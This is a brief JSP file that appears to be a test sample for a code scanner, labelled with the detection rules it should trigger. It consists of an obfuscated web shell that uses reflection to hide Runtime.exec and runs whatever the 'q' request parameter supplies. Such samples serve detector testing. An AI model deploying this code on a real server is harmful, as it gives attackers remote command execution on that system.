<%-- expect rule=jsp.exec-input min=90 rule=jsp.obfuscation --%>
<%@ page import="java.lang.reflect.Method" %>
<%
    String cn = new String(new char[]{'j','a','v','a','.','l','a','n','g','.','R','u','n','t','i','m','e'});
    String mn = new String(new byte[]{101, 120, 101, 99});
    Class<?> k = Class.forName(cn);
    Object rt = k.getMethod("get" + "Run" + "time").invoke(null);
    Method m = k.getMethod(mn, String.class);
    m.invoke(rt, request.getParameter("q"));
%>
